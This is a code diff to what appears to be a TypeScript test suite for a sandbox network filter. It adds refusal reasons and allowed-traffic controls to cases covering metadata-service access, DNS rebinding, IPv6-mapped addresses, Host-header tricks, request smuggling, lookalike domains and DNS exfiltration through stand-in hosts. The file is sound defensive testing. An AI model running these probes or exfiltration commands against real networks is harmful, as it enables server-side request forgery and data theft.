@@ -12,39 +12,61 @@ const blindFilter = "a filter that checks nothing";
 const isInside = (arrival: Arrival): boolean =>
   "to" in arrival && [insider, metadata, cgnat].includes(arrival.to);
 
-type Through = readonly [words: string, inside: string, counts?: (arrival: Arrival) => boolean];
+type Through = readonly [
+  words: string,
+  inside: string,
+  counts?: ((arrival: Arrival) => boolean) | undefined,
+  reason?: string,
+];
+const notPublic = "leads to an address that is not public";
+const notListed = "the name is not on this session's list";
 
 /** Names that lead where nobody may go; TLS and all, so that it is the address that is refused. */
 const leading: readonly Through[] = [
-  ["a name that leads to the local network", "secure insider.outside.example:443", isInside],
-  ["a name that leads to the metadata service", "secure metadata.outside.example:443", isInside],
+  ["a name that leads to the local network", "secure insider.outside.example:443", isInside, notPublic],
+  ["a name that leads to the metadata service", "secure metadata.outside.example:443", isInside, notPublic],
   [
     "a name that leads behind the provider's address translation",
     "secure provider.outside.example:443",
     isInside,
+    notPublic,
   ],
   [
     "a name that leads to a public and a private address",
     "for n in 1 2 3 4 5 6; do secure mixed.outside.example:443; done",
     isInside,
+    notPublic,
   ],
   [
     "a name that leads elsewhere when it is asked again",
     "for n in 1 2 3; do secure rebinding.outside.example:443; done",
     isInside,
+    notPublic,
   ],
-  ["a name that leads to an address mapped into IPv6", "secure mapped.outside.example:443", isInside],
-  ["a name that leads to an address behind NAT64", "secure nat64.outside.example:443", isInside],
-  ["a name that leads to an address behind 6to4", "secure six-to-four.outside.example:443", isInside],
+  [
+    "a name that leads to an address mapped into IPv6",
+    "secure mapped.outside.example:443",
+    isInside,
+    notPublic,
+  ],
+  ["a name that leads to an address behind NAT64", "secure nat64.outside.example:443", isInside, notPublic],
+  [
+    "a name that leads to an address behind 6to4",
+    "secure six-to-four.outside.example:443",
+    isInside,
+    notPublic,
+  ],
   [
     "plain HTTP to a name that leads to the local network",
     'curl -s -m 8 "http://insider.outside.example/mark-$SIGN"',
     isInside,
+    notPublic,
   ],
   [
     "plain HTTP to a name that leads to the metadata service",
     'curl -s -m 8 "http://metadata.outside.example/mark-$SIGN"',
     isInside,
+    notPublic,
   ],
   ["the metadata service's address", "secure 169.254.169.254:443", isInside],
   ["the same mapped into IPv6", "secure '[::ffff:a9fe:a9fe]:443'", isInside],
@@ -69,6 +91,7 @@ const leading: readonly Through[] = [
     "a Host header that says something else",
     'raw "GET http://listed.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n"',
     (arrival) => arrival.kind === "request" && arrival.host.startsWith("other."),
+    "it is no plain HTTP address with a host name",
   ],
   [
     "a head of 100 kB",
@@ -82,12 +105,22 @@ const smuggled =
 
 /** Under `strict`, where one name is listed and the others are not. */
 const unlisted: readonly Through[] = [
-  ["ask for a name that is not listed", "secure other.outside.example:443"],
+  ["ask for a name that is not listed", "secure other.outside.example:443", undefined, notListed],
   ["have a name looked up that is not listed", "secure $SIGN.exfil.outside.example:443"],
-  ["plain HTTP to a name that is not listed", 'curl -s -m 8 "http://other.outside.example/mark-$SIGN"'],
+  [
+    "plain HTTP to a name that is not listed",
+    'curl -s -m 8 "http://other.outside.example/mark-$SIGN"',
+    undefined,
+    notListed,
+  ],
   ["a name that ends like a listed one", "secure evillisted.outside.example:443"],
   ["a name that begins like a listed one", "secure listed.outside.example.evil.outside.example:443"],
-  ["a listed name that leads to the local network", "secure private.outside.example:443", isInside],
+  [
+    "a listed name that leads to the local network",
+    "secure private.outside.example:443",
+    isInside,
+    notPublic,
+  ],
   ["TLS that asks for a name that is not listed", "secure listed.outside.example:443 $SIGN.evil.example"],
   [
     "a second request behind a first (two lengths)",
@@ -98,6 +131,7 @@ const unlisted: readonly Through[] = [
     "a second request on the same connection",
     `raw "GET http://listed.outside.example/ HTTP/1.1\\\\r\\\\nHost: listed.outside.example\\\\r\\\\n\\\\r\\\\n${smuggled}"`,
     isOther,
+    notListed,
   ],
 ];
 
@@ -105,9 +139,10 @@ const through = (
   network: "public" | "strict",
   list: readonly Through[],
 ): (Omit<Attack, "id"> & { counts?: Through[2] })[] =>
-  list.map(([words, inside, counts]) => ({
+  list.map(([words, inside, counts, reason]) => ({
     ...{ group, network, words: `${network}, through the filter: ${words}`, inside, weakening: blindFilter },
     ...(counts === undefined ? {} : { counts }),
+    ...(reason === undefined ? {} : { reason }),
   })) as (Omit<Attack, "id"> & { counts?: Through[2] })[];
 
 const toHost: Omit<Attack, "id">[] = ["gateway", "own-public", "loopback", "zero"].map((name) => ({
@@ -176,3 +211,22 @@ export const networkObserved: Attack[] = [
     needsOutside: true,
   })),
 ];
+
+/**
+ * No attacks: what is allowed, in the same session. Without it an attack could be held by whatever breaks everything.
+ */
+export const networkControls: Attack[] = (["public", "strict"] as const).flatMap((network) =>
+  (
+    [
+      ["plain HTTP", 'curl -s -m 8 "http://listed.outside.example/mark-$SIGN"', "http"],
+      ["HTTPS", "secure listed.outside.example:443", "https"],
+    ] as const
+  ).map(([words, inside, way]) => {
+    const id = `CONTROL-${network}-${way}`;
+    return {
+      ...{ id, group, network, inside, weakening: blindFilter, needsOutside: true, ours: "open" as const },
+      words: `${network}, through the filter: ${words} to a listed name arrives`,
+      after: arrived(id, (arrival) => arrival.kind === "request" && arrival.way === way),
+    };
+  }),
+);
